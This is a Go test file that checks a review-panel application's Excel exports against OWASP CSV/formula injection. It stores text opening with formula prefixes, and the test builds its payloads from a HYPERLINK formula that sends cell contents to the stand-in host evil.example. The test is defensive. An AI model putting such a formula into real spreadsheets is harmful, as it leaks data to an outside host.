package web

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/evalpanel/evalpanel/evaluation"
	"github.com/xuri/excelize/v2"
)

// The catalogue's exports: text that a spreadsheet would run as a formula
// (OWASP's CSV injection), stored in every text column of every workbook
// the app writes, and read back from the download with excelize.

// formulaPrefixes start a formula in a spreadsheet, or start one once the
// workbook is saved as CSV (OWASP's list), one case each. The test keeps
// its own list, so that a trigger dropped from formulaTriggers fails it.
const owaspTriggers = "=+-@\t\r"

var formulaPrefixes = []struct{ name, prefix string }{
	{"=", "="}, {"+", "+"}, {"-", "-"}, {"@", "@"}, {"a tab", "\t"}, {"a carriage return", "\r"},
}

// exportColumn is a text column of a workbook: its worksheet and header,
// the field whose text it shows, and the rows to read (2 is the first
// below the header).
type exportColumn struct {
	workbook, sheet, header, field string
	rows                           int
}

// badInputFormulas stores, for each formula prefix, a formula in every
// text that a workbook shows — the project's title and lead institution,
// the experts' names and institutions, every indicator's comment and the
// opinion of every sheet, a veto's evidence — and downloads the results
// and the sheets workbooks. Each text column's cells hold the stored text
// as a string, never a formula, with a single quote in front when it
// starts with a prefix (a name that trims the leading tab or carriage
// return away starts with none, and gets none); the veto's cell starts
// with the veto's own words, never with the evidence.
func badInputFormulas(t *testing.T) int {
	checked := 0
	for _, pre := range formulaPrefixes {
		t.Run("a formula after "+pre.name, func(t *testing.T) {
			h := newHarness(t)
			text := func(field string) string { return pre.prefix + `HYPERLINK("http://evil.example/?d="&A1,"x") #` + field }
			s := h.scoringCampaignOf(strings.NewReplacer(
				`"title":"城市地下管网智能巡检机器人研发"`, `"title":`+jsonText(text("title")),
				`"lead_institution":"同济大学"`, `"lead_institution":`+jsonText(text("lead")),
			).Replace(fmt.Sprintf(projectJSON, "2024-ZD-101")))
			ctx := context.Background()
			stored := map[string]string{} // field: the text as stored
			for i, m := range s.panel.Members {
				if m.Status != evaluation.MemberAccepted {
					continue
				}
				u, err := h.db.UserByExpert(ctx, m.ExpertID)
				if err != nil {
					t.Fatal(err)
				}
				var e evaluation.Expert
				h.decode(h.mustAPI("commission", "PATCH", fmt.Sprintf("/api/v1/experts/%d", m.ExpertID),
					fmt.Sprintf(`{"name":%s,"institution":%s}`, jsonText(text(fmt.Sprintf("name %d", i))), jsonText(text(fmt.Sprintf("institution %d", i)))), http.StatusOK), &e)
				stored[fmt.Sprintf("name %d", i)], stored[fmt.Sprintf("institution %d", i)] = e.Name, e.Institution
				h.openSheet(s, u.Username)
				body := fmt.Sprintf(`{"version":0,"scores":{"A1":22,"A2":20,"A3":21,"A4":8,"A5":12},"comments":{"A1":%s,"A2":%s,"A3":%s,"A4":%s,"A5":%s},"opinion":%s,"vetoes":[{"code":"V2","evidence":%s}]}`,
					jsonText(text("A1")), jsonText(text("A2")), jsonText(text("A3")), jsonText(text("A4")), jsonText(text("A5")), jsonText(text("opinion")), jsonText(text("evidence")))
				if m.Seat == evaluation.SeatFinance {
					body = fmt.Sprintf(`{"version":0,"scores":{"F1":16,"F2":20,"F3":20,"F4":24},"comments":{"F1":%s,"F2":%s,"F3":%s,"F4":%s},"opinion":%s,"finance_pass":true}`,
						jsonText(text("F1")), jsonText(text("F2")), jsonText(text("F3")), jsonText(text("F4")), jsonText(text("finance opinion")))
				}
				var sh evaluation.Sheet
				h.decode(h.mustAPI(u.Username, "POST", fmt.Sprintf("/api/v1/projects/%d/sheet/submit", s.projectID), body, http.StatusOK), &sh)
				for code, c := range sh.Content.Comments {
					stored[code] = c
				}
				if m.Seat == evaluation.SeatFinance {
					stored["finance opinion"] = sh.Content.Opinion
				} else {
					stored["opinion"], stored["evidence"] = sh.Content.Opinion, sh.Content.Vetoes[0].Evidence
				}
			}
			var p evaluation.Project
			h.decode(h.mustAPI("staffa", "GET", fmt.Sprintf("/api/v1/projects/%d", s.projectID), "", http.StatusOK), &p)
			stored["title"], stored["lead"] = p.Title, p.Lead

			books := map[string]*excelize.File{}
			for _, name := range []string{"results", "sheets"} {
				books[name] = openWorkbook(t, h.mustAPI("staffa", "GET", fmt.Sprintf("/api/v1/campaigns/%d/%s.xlsx?lang=zh-CN", s.campaignID, name), "", http.StatusOK))
			}
			tech, finance := 5, 1
			columns := []exportColumn{
				{"results", "评审结果", "项目名称", "title", 1}, {"results", "评审结果", "承担单位", "lead", 1},
				{"results", "参考指标", "项目名称", "title", 1},
				{"results", "专家宽严度（参考）", "专家", "name", tech}, {"results", "专家宽严度（参考）", "工作单位", "institution", tech},
				{"sheets", "应用技术类", "项目名称", "title", tech}, {"sheets", "应用技术类", "专家", "name", tech},
				{"sheets", "应用技术类", "总体意见", "opinion", tech}, {"sheets", "应用技术类", "勾选的否决项及依据", "evidence", tech},
				{"sheets", "财务评价", "项目名称", "title", finance}, {"sheets", "财务评价", "专家", "name", finance},
				{"sheets", "财务评价", "总体意见", "finance opinion", finance},
			}
			for _, code := range []string{"A1", "A2", "A3", "A4", "A5"} {
				columns = append(columns, exportColumn{"sheets", "应用技术类", code + " 评语", code, tech})
			}
			for _, code := range []string{"F1", "F2", "F3", "F4"} {
				columns = append(columns, exportColumn{"sheets", "财务评价", code + " 评语", code, finance})
			}
			for _, col := range columns {
				t.Run(col.workbook+": "+col.sheet+": "+col.header, func(t *testing.T) {
					f := books[col.workbook]
					if got := len(rowsOf(t, f, col.sheet)) - 1; got != col.rows {
						t.Fatalf("%d rows, want %d", got, col.rows)
					}
					for row := 2; row < 2+col.rows; row++ {
						ref := cellOf(t, f, col.sheet, col.header, row)
						got, err := f.GetCellValue(col.sheet, ref)
						if err != nil {
							t.Fatal(err)
						}
						want, ok := stored[col.field]
						if col.field == "name" || col.field == "institution" {
							// One expert's: the row's, found by its number.
							want, ok = storedOfRow(stored, col.field, got)
						}
						if col.field == "evidence" {
							if !strings.HasSuffix(got, "："+want) || strings.IndexByte(owaspTriggers, got[0]) >= 0 {
								t.Errorf("%s!%s = %q, want the veto's words, then the evidence %q", col.sheet, ref, got, want)
							}
							wantText(t, f, col.sheet, ref, got)
							continue
						}
						if !ok {
							t.Fatalf("%s!%s = %q is no stored %s", col.sheet, ref, got, col.field)
						}
						if strings.IndexByte(owaspTriggers, want[0]) >= 0 {
							want = "'" + want
						}
						wantText(t, f, col.sheet, ref, want)
					}
				})
				checked++
			}
		})
	}
	return checked
}

// storedOfRow finds the stored text of a field numbered per expert
// ("name 3") that a cell shows, with or without the quote in front.
func storedOfRow(stored map[string]string, field, cell string) (string, bool) {
	for k, v := range stored {
		if strings.HasPrefix(k, field+" ") && (cell == v || cell == "'"+v) {
			return v, true
		}
	}
	return "", false
}
